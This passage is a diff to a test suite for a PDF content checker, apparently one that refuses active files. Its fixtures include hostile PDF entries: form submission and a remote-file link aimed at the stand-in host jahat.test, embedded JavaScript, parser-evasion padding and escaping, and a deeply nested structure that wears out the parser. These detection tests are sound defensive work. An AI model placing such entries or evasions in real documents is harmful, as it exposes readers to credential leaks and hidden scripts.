@@ -59,6 +59,7 @@ describe('refused', () => {
     '/AcroForm << /XFA 7 0 R >>',
     '/A << /S /SubmitForm /F (https://jahat.test) >>',
     '/Subtype /RichMedia',
+    '/A << /S /GoToR /F (\\\\\\\\jahat.test\\\\x.pdf) >>',
   ])('one that acts or carries: %s', async (entry) => {
     await expect(check(withObject(`99 0 obj\n<< ${entry} >>`))).rejects.toMatchObject({ why: 'active' })
     await expect(check(packed(`7 0 << ${entry} >>`))).rejects.toMatchObject({ why: 'active' })
@@ -71,6 +72,27 @@ describe('refused', () => {
     await expect(check(packed('7 0 << >>', guessed))).rejects.toMatchObject({ why: 'unreadable' })
     const broken = withObject('99 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nxxxx\nendstream')
     await expect(check(broken)).rejects.toMatchObject({ why: 'unreadable' })
+  })
+
+  test.each([
+    ['behind many blanks', (rest: string) => `/Type /ObjStm /N 1 /First 4${' '.repeat(9_000)}${rest}`],
+    ['behind a long remark', (rest: string) => `/Type /ObjStm /N 1 /First 4 %${'x'.repeat(9_000)}\n${rest}`],
+    [
+      'before a text that looks like the next',
+      (rest: string) => `/Type /ObjStm /N 1 /First 4 /X (\n1 0 obj <<) ${rest}`,
+    ],
+    ['whose kind stands elsewhere', (rest: string) => `/Type 8 0 R /N 1 /First%\n4 ${rest}`],
+    ['behind a bracket in a text', (rest: string) => `/X (\\)>>stream) /Type /Obj#53tm /N 1 /First 4 ${rest}`],
+  ])('one whose packed objects act, %s', async (_, dictionary) => {
+    const acting = '7 0 << /S /JavaScript /JS (app.alert) >>'
+    await expect(check(packed(acting, dictionary('/Filter /FlateDecode')))).rejects.toMatchObject({ why: 'active' })
+    const guessed = dictionary('/Filter /FlateDecode /DecodeParms 9 0 R')
+    await expect(check(packed(acting, guessed))).rejects.toMatchObject({ why: 'unreadable' })
+  })
+
+  test('one that has us read its dictionaries again and again', async () => {
+    const nested = withObject(`99 0 obj\n${'obj<<'.repeat(200_000)}${'>>'.repeat(200_000)}`)
+    await expect(check(nested)).rejects.toMatchObject({ why: 'unreadable' })
   })
 
   test('one that unpacks to more than it may', async () => {
